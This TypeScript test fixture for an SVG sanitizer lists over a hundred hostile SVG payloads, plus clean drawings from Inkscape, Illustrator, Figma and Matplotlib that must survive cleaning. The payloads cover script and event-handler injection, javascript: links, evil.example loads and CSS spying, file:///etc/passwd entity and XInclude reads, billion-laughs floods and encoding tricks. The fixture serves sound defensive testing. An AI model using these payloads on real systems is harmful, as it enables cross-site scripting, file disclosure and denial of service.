// Drawings that mean harm, gathered by what they try: script, other places, animation, entities, floods, and what looks different to two readers. And honest ones of well-known programs.
import { PNG } from '#test/files.ts';

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const RED = '<rect width="10" height="10" fill="red"/>';
const svg = (inside: string, attributes = ''): string => `<svg ${NS} ${attributes}>${inside}${RED}</svg>`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');
/** What each of them would do where it runs: the browser's test looks for it. */
const RUN = 'top.ran=1;window.ran=1';
const EVIL = svg(`<script>${RUN}</script>`);

/** `refused`: nothing is kept of it. All others are kept without what they mean. */
export const hostileDrawings: readonly (readonly [title: string, text: string | Buffer, refused?: 'refused'])[] = Object.freeze([
  ['a script', svg(`<script>${RUN}</script>`)],
  ['a script of another place', svg('<script href="https://evil.example/x.js"/>')],
  ['a script by xlink', svg('<script xlink:href="data:text/javascript,window.ran=1"/>')],
  ['a script in CDATA', svg(`<script><![CDATA[${RUN}]]></script>`)],
  ['a script by another prefix', `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${RUN}</s:script></s:svg>`],
  ['a script of pages', svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${RUN}</h:script>`)],
  ['a script in a title', svg(`<title><script>${RUN}</script></title>`)],
  ['a script in a style', svg(`<style><script>${RUN}</script></style>`)],
  ['a script in defs, named by use', svg(`<defs><g id="a"><script>${RUN}</script></g></defs><use href="#a"/>`)],
  ['a script in capitals', svg(`<SCRIPT>${RUN}</SCRIPT>`)],
  ['a script of modules', svg(`<script type="module">${RUN}</script>`)],
  ['onload of the root', svg('', `onload="${RUN}"`)],
  ['onload in capitals', svg('', `ONLOAD="${RUN}"`)],
  ['onclick of a shape', svg(`<rect width="9" height="9" onclick="${RUN}"/>`)],
  ['onmouseover', svg(`<g onmouseover="${RUN}"><rect width="99" height="99"/></g>`)],
  ['onbegin of an animation', svg(`<animate onbegin="${RUN}" attributeName="x" dur="1s"/>`)],
  ['onerror of an image', svg(`<image href="x" onerror="${RUN}"/>`)],
  ['onfocus', svg(`<g tabindex="0" autofocus="" onfocus="${RUN}" id="f"/>`)],
  ['onwheel with a prefix', svg(`<g xmlns:e="urn:e" e:onwheel="${RUN}"/>`)],
  ['an event nobody knows yet', svg(`<g onsomethingnew="${RUN}"/>`)],
  ['a handler (SVG Tiny)', svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`)],
  ['a listener', svg('<listener event="load" handler="#y" xmlns="http://www.w3.org/2001/xml-events" observer="x"/>')],
  ['foreign content with a script', svg(`<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></body></foreignObject>`)],
  ['foreign content with a frame', svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:window.ran=1"/></foreignObject>')],
  ['foreign content in small letters', svg(`<foreignobject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${RUN}"/></foreignobject>`)],
  ['an image of pages beside', svg(`<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${RUN}"/>`)],
  ['a form of pages', svg('<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input name="a" autofocus="autofocus" onfocus="top.ran=1"/></form>')],
  ['a page around it all', `<html xmlns="http://www.w3.org/1999/xhtml">${EVIL}</html>`, 'refused'],
  ['an embedded page', svg('<embed xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>')],
  ['a video', svg('<video xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/a.mp4" onloadstart="top.ran=1"/>')],
  ['a link that runs', svg('<a href="javascript:window.ran=1"><text y="9">x</text></a>')],
  ['a link that runs, by xlink', svg('<a xlink:href="javascript:window.ran=1"><text y="9">x</text></a>')],
  ['a link with characters in between', svg('<a xlink:href="jav&#x09;ascript:window.ran=1"><text y="9">x</text></a>')],
  ['a link with leading controls', svg('<a href="&#x20;&#x0a;javascript:window.ran=1"><text y="9">x</text></a>')],
  ['a link in entities', svg('<a href="&#106;&#97;vascript&#58;window.ran=1"><text y="9">x</text></a>')],
  ['a link to a page in data', svg(`<a href="data:text/html;base64,${base64('<script>top.ran=1</script>')}"><text y="9">x</text></a>`)],
  ['a link to elsewhere', svg('<a href="https://evil.example/" target="_top"><text y="9">x</text></a>')],
  ['a link by vbscript', svg('<a href="vbscript:msgbox(1)"><text y="9">x</text></a>')],
  ['a base for links', svg('<g xml:base="https://evil.example/"><use href="#a"/></g>')],
  ['an animated link', svg('<a><animate attributeName="href" values="javascript:window.ran=1"/><text y="9">x</text></a>')],
  ['a link that is set', svg('<a><set attributeName="xlink:href" to="javascript:window.ran=1" begin="0s"/><text y="9">x</text></a>')],
  ['an event that is set', svg(`<set attributeName="onmouseover" to="${RUN}"/>`)],
  ['an animated link from elsewhere in the drawing', svg('<a id="l"><text y="9">x</text></a><animate href="#l" attributeName="href" to="javascript:window.ran=1" dur="1s" fill="freeze"/>')],
  ['an animation along a path', svg('<animateMotion path="M0,0 L9,9" dur="1s" onend="top.ran=1"/>')],
  ['an animated transform', svg('<animateTransform attributeName="transform" type="rotate" onrepeat="top.ran=1" dur="1s"/>')],
  ['use of another file', svg('<use href="https://evil.example/a.svg#a"/>')],
  ['use of another file beside it', svg('<use xlink:href="other.svg#a"/>')],
  ['use of data', svg(`<use href="data:image/svg+xml;base64,${base64(EVIL)}#a"/>`)],
  ['use without a protocol', svg('<use href="//evil.example/a.svg#a"/>')],
  ['an image of elsewhere', svg('<image href="https://evil.example/pixel.png" width="9" height="9"/>')],
  ['an image of elsewhere, by xlink', svg('<image xlink:href="http://evil.example/pixel.png" width="9" height="9"/>')],
  ['an image without a protocol', svg('<image href="//evil.example/pixel.png" width="9" height="9"/>')],
  ['an image of a file', svg('<image href="file:///etc/passwd" width="9" height="9"/>')],
  ['an image of a network share', svg('<image href="\\\\evil.example\\share\\a.png" width="9" height="9"/>')],
  ['an image that is a drawing', svg(`<image href="data:image/svg+xml;base64,${base64(EVIL)}" width="9" height="9"/>`)],
  ['an image that says it is a picture', svg(`<image href="data:image/png;base64,${base64(EVIL)}" width="9" height="9"/>`)],
  ['an image in percent signs', svg('<image href="data:image/svg+xml,%3Csvg onload=%22alert(1)%22/%3E" width="9" height="9"/>')],
  ['an image of the filter', svg('<filter id="f"><feImage href="https://evil.example/a.png"/></filter><g filter="url(#f)"/>')],
  ['fill of another place', svg('<rect width="9" height="9" fill="url(http://evil.example/a.svg#a)"/>')],
  ['fill of another place in quotes', svg('<rect width="9" height="9" fill="url(&quot;https://evil.example/a.svg#a&quot;)"/>')],
  ['a filter of a file', svg('<g filter="url(file:///etc/passwd#a)"/>')],
  ['a mask of data', svg('<g mask="url(data:image/svg+xml,%3Csvg/%3E#a)"/>')],
  ['a clip of another file', svg('<g clip-path="url(a.svg#b)"/>')],
  ['a marker of another place', svg('<path d="M0 0L9 9" marker-start="url(//evil.example/a.svg#a)"/>')],
  ['a cursor of another place', svg('<g cursor="url(https://evil.example/c.cur), auto"/>')],
  ['a style of another place', svg('<rect width="9" height="9" style="fill:url(https://evil.example/a.svg#a)"/>')],
  ['a style with a background', svg('<g style="background:url(javascript:window.ran=1)"/>')],
  ['a style in escapes', svg('<g style="fill:\\75 rl(https://evil.example/a#b)"/>')],
  ['a style with comments in between', svg('<g style="fill:url/**/(https://evil.example/a#b);mask:u/**/rl(//evil.example)"/>')],
  ['a style with an expression', svg('<g style="width:expression(window.ran=1)"/>')],
  ['a style that binds', svg('<g style="-moz-binding:url(https://evil.example/a.xml#b);behavior:url(a.htc)"/>')],
  ['a style with image-set', svg('<g style="mask:image-set(\'https://evil.example/a.png\' 1x)"/>')],
  ['a style with a variable', svg('<g style="--a:url(https://evil.example/a);fill:var(--a)"/>')],
  ['a sheet that imports', svg('<style>@import "https://evil.example/a.css"; .a{fill:red}</style>')],
  ['a sheet that imports by url', svg('<style>@import url(//evil.example/a.css);</style>')],
  ['a sheet that imports in escapes', svg('<style>@\\69mport url(//evil.example/a.css); \\40 import "a.css";</style>')],
  ['a sheet with a font', svg('<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)} text{font-family:x}</style><text y="9">x</text>')],
  ['a sheet that spies by attributes', svg('<style>rect[fill^="r"]{mask:url(https://evil.example/r)}</style>')],
  ['a sheet with a background', svg('<style>svg{background:url(https://evil.example/b)}*{list-style:url(//evil.example)}</style>')],
  ['a sheet in CDATA', svg('<style><![CDATA[@import url(https://evil.example/a.css);rect{fill:url("https://evil.example/#a")}]]></style>')],
  ['a sheet under conditions', svg('<style>@media all{rect{fill:url(https://evil.example/#a)}} @supports (fill:red){rect{mask:url(//evil.example/#a)}}</style>')],
  ['a sheet that breaks out', svg(`<style>&lt;/style>&lt;img src=x onerror="${RUN}"></style>`)],
  ['a sheet with a comment that is none', svg(`<style>/*</style><script>${RUN}</script><style>*/</style>`)],
  ['a link to a sheet', svg('<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/a.css"/>')],
  ['a sheet by instruction', `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/a.css"?>${svg('')}`],
  ['a transformation by instruction', `<?xml-stylesheet type="text/xsl" href="#s"?>${svg('<xsl:stylesheet id="s" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><script>top.ran=1</script></html></xsl:template></xsl:stylesheet>')}`],
  ['a title that breaks out of pages', svg(`<title><![CDATA[</title><img src=x onerror="${RUN}">]]></title>`)],
  ['a description with a style that breaks out', svg(`<desc><style><![CDATA[</style><img src=x onerror="${RUN}">]]></style></desc>`)],
  ['a math island', svg(`<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${RUN}"/></mtext></math>`)],
  ['a comment that two readers end differently', svg(`<!-- <g/> --><![CDATA[><script>${RUN}</script>]]>`)],
  ['an instruction with a script', svg(`<?php echo "<script>${RUN}</script>"; ?>`)],
  ['an entity', `<!DOCTYPE svg [<!ENTITY a "<script>window.ran=1</script>">]><svg ${NS}>&a;</svg>`, 'refused'],
  ['an entity of a file', `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg ${NS}><text>&a;</text></svg>`, 'refused'],
  ['an entity of a place, for parameters', `<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/a.dtd">%a;]><svg ${NS}/>`, 'refused'],
  ['a billion laughs', `<!DOCTYPE svg [<!ENTITY a "ha">${[...'bcdefghij'].map((one, n) => `<!ENTITY ${one} "${`&${'abcdefghij'[n]};`.repeat(10)}">`).join('')}]><svg ${NS}><text>&j;</text></svg>`, 'refused'],
  ['attributes by doctype', `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "window.ran=1">]><svg ${NS}/>`, 'refused'],
  ['a doctype of another place', `<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd">${svg('')}`],
  ['an entity nobody declared', `<svg ${NS}><text>&evil;</text></svg>`, 'refused'],
  ['an inclusion', svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')],
  ['a flood by use', svg(`<defs><g id="a0">${RED}</g>${Array.from({ length: 9 }, (_one, n) => `<g id="a${n + 1}">${`<use href="#a${n}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#a9"/>`), 'refused'],
  ['a flood by patterns', svg(Array.from({ length: 9 }, (_one, n) => `<pattern id="p${n + 1}" width="1" height="1">${`<rect width="1" height="1" fill="url(#p${n})"/>`.repeat(10)}</pattern>`).join('') + '<rect fill="url(#p9)"/>'), 'refused'],
  ['a flood by clips of a sheet', svg(`<style>${Array.from({ length: 9 }, (_one, n) => `.c${n + 1}{clip-path:url(#k${n})}`).join('')}</style>${Array.from({ length: 10 }, (_one, n) => `<clipPath id="k${n}">${`<rect class="c${n}"/>`.repeat(10)}</clipPath>`).join('')}<g clip-path="url(#k9)"/>`), 'refused'],
  ['a flood by markers', svg(`<marker id="m">${RED.repeat(200)}</marker><path d="M0 0${'L1 1'.repeat(9_000)}" marker-mid="url(#m)"/>`), 'refused'],
  ['a flood by rules', svg(`<style>${Array.from({ length: 9_000 }, (_one, n) => `.a{clip-path:url(#c${n})}`).join('')}</style>${'<g class="a"/>'.repeat(500)}`), 'refused'],
  ['a drawing within itself', svg('<g id="a"><use href="#a"/></g>'), 'refused'],
  ['a pattern within itself', svg('<pattern id="a" width="1" height="1"><rect fill="url(#a)"/></pattern>'), 'refused'],
  ['very many elements', svg('<g/>'.repeat(100_001)), 'refused'],
  ['very deep', `${`<svg ${NS}>`}${'<g>'.repeat(50_000)}${'</g>'.repeat(50_000)}</svg>`, 'refused'],
  ['very deep in what is left out', svg(`${'<x>'.repeat(50_000)}${'</x>'.repeat(50_000)}`), 'refused'],
  ['cut off', svg('<g>').slice(0, -9), 'refused'],
  ['an attribute twice', svg(`<g id="a" id="b" onload="${RUN}"/>`), 'refused'],
  ['two roots', `${svg('')}${EVIL}`, 'refused'],
  ['text behind it', `${svg('')}<script>`, 'refused'],
  ['an encoding that hides signs', Buffer.from(`<?xml version="1.0" encoding="utf-7"?><svg ${NS}>+ADw-script+AD4-window.ran=1+ADw-/script+AD4-</svg>`), 'refused'],
  ['an encoding with shifts', Buffer.from(`<?xml version="1.0" encoding="iso-2022-jp"?><svg ${NS}><g id="\u001b$B\u001b(B"/><script>${RUN}</script></svg>`, 'latin1'), 'refused'],
  ['XML 1.1 with controls', `<?xml version="1.1"?><svg ${NS}><text>&#1;</text></svg>`, 'refused'],
  ['two bytes a sign, with a mark', Buffer.from(`\ufeff${EVIL}`, 'utf16le')],
  ['two bytes a sign, the other way round', Buffer.from(`\ufeff${EVIL}`, 'utf16le').swap16()],
  ['a mark in front', Buffer.from(`\ufeff${EVIL}`)],
  ['comments in front', `<!-- ${'x'.repeat(70_000)} -->${EVIL}`],
  ['a doctype in front that holds what looks like its end', `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN>" 'a>b'>${EVIL}`],
  ['ids that name what a page has', svg('<g id="cookie"/><g id="body"/><image name="adoptNode" href="x"/>')],
  ['a place in the wrong words', svg('<use href="# a"/><use href="#a);x:url(//evil.example"/>')],
  ['a script in the value of a number', svg('<rect width="javascript:window.ran=1" height="&lt;script&gt;" x="{}"/>')],
]);

/** As well-known programs write them, and what must still be in them afterwards. */
export const honestDrawings: readonly (readonly [title: string, text: string, kept: readonly string[]])[] = Object.freeze([
  ['Inkscape', `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="210mm" height="297mm" viewBox="0 0 210 297" version="1.1" id="svg5" inkscape:version="1.2" sodipodi:docname="חוזה.svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg">
  <sodipodi:namedview id="namedview7" pagecolor="#ffffff"/>
  <defs id="defs2"><linearGradient id="linearGradient857"><stop style="stop-color:#ff0000;stop-opacity:1" offset="0" id="stop853"/></linearGradient>
  <linearGradient inkscape:collect="always" xlink:href="#linearGradient857" id="linearGradient859" x1="10" y1="20" x2="90" y2="20" gradientUnits="userSpaceOnUse"/></defs>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1"><path style="fill:url(#linearGradient859);stroke:#000000;stroke-width:0.264583px" d="M 10,10 C 20,20 30,30 40,40 Z" id="path1"/>
  <text xml:space="preserve" style="font-size:10px;font-family:'Noto Sans';-inkscape-font-specification:'Noto Sans'" x="1" y="9"><tspan x="1" y="9">שלום  עולם</tspan></text></g>
</svg>`, ['xlink:href="#linearGradient857"', 'fill:url(#linearGradient859);stroke:#000000;stroke-width:0.264583px', 'd="M 10,10 C 20,20 30,30 40,40 Z"', 'שלום  עולם', "font-family:'Noto Sans'", 'width="210mm"']],
  ['Illustrator', `<?xml version="1.0" encoding="utf-8"?><!-- Generator: Adobe Illustrator --><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px" viewBox="0 0 100 100" style="enable-background:new 0 0 100 100;" xml:space="preserve">
<style type="text/css">
	.st0{fill:#FFFFFF;stroke:#1D1D1B;stroke-miterlimit:10;}
	.st1{clip-path:url(#SVGID_2_);fill:url(#SVGID_1_);}
	.st2{font-family:'MyriadPro-Regular';}
</style>
<g><defs><rect id="SVGID_3_" width="9" height="9"/></defs><clipPath id="SVGID_2_"><use xlink:href="#SVGID_3_" style="overflow:visible;"/></clipPath><radialGradient id="SVGID_1_" cx="5" cy="5" r="5"><stop offset="0" style="stop-color:#FFF"/></radialGradient><path class="st1" d="M0,0h9v9z"/><polygon class="st0" points="1,1 2,2 3,1 "/></g>
</svg>`, ['.st0{fill:#FFFFFF;stroke:#1D1D1B;stroke-miterlimit:10}', '.st1{clip-path:url(#SVGID_2_);fill:url(#SVGID_1_)}', 'points="1,1 2,2 3,1"', '<clipPath id="SVGID_2_"><use xlink:href="#SVGID_3_"', 'style="overflow:visible"']],
  ['Figma', '<svg width="24" height="24" viewBox="0 0 24 24" fill="none" xmlns="http://www.w3.org/2000/svg"><g clip-path="url(#clip0_1_2)" filter="url(#filter0_d)"><path fill-rule="evenodd" clip-rule="evenodd" d="M12 2C6.48 2 2 6.48 2 12" fill="url(#paint0_linear_1:2)"/></g><defs><filter id="filter0_d" x="-2" y="0" width="28" height="28" filterUnits="userSpaceOnUse" color-interpolation-filters="sRGB"><feFlood flood-opacity="0" result="BackgroundImageFix"/><feColorMatrix in="SourceAlpha" type="matrix" values="0 0 0 0 0 0 0 0 0 0"/><feGaussianBlur stdDeviation="2"/><feBlend mode="normal" in2="BackgroundImageFix"/></filter><linearGradient id="paint0_linear_1:2" x1="12" y1="2" x2="12" y2="22"><stop stop-color="#C46A2B"/></linearGradient><clipPath id="clip0_1_2"><rect width="24" height="24" fill="white"/></clipPath></defs></svg>', ['fill="url(#paint0_linear_1:2)"', '<feColorMatrix in="SourceAlpha" type="matrix" values="0 0 0 0 0 0 0 0 0 0"/>', 'clip-path="url(#clip0_1_2)"']],
  ['Matplotlib', `<?xml version="1.0" encoding="utf-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="460.8pt" height="345.6pt" viewBox="0 0 460.8 345.6" xmlns="http://www.w3.org/2000/svg" version="1.1">
 <metadata><rdf:RDF xmlns:cc="http://creativecommons.org/ns#" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><cc:Work><dc:creator>Dana Levi</dc:creator></cc:Work></rdf:RDF></metadata>
 <defs><style type="text/css">*{stroke-linejoin: round; stroke-linecap: butt}</style></defs>
 <g id="figure_1"><defs><path id="m0a" d="M 0 0 L 0 3.5 " style="stroke: #000000; stroke-width: 0.8"/></defs><g><use xlink:href="#m0a" x="57.6" y="307.584" style="stroke: #000000; stroke-width: 0.8"/></g></g>
</svg>`, ['*{stroke-linejoin:round;stroke-linecap:butt}', '<use xlink:href="#m0a" x="57.6" y="307.584"', 'stroke:#000000;stroke-width:0.8']],
  ['a photograph in a frame', `<svg ${NS} width="9" height="9"><title>A frame</title><image width="9" height="9" xlink:href="data:image/png;base64,${PNG.toString('base64').replace(/(.{20})/g, '$1\n')}"/></svg>`, [`data:image/png;base64,${PNG.toString('base64')}`, '<title>A frame</title>']],
  ['a program that forgets the namespace', '<svg viewBox="0 0 2 2"><use xlink:href="#a"/><path id="a" d="M0 0h2v2"/></svg>', ['<path id="a" d="M0 0h2v2"/>', 'xmlns="http://www.w3.org/2000/svg"']],
]);
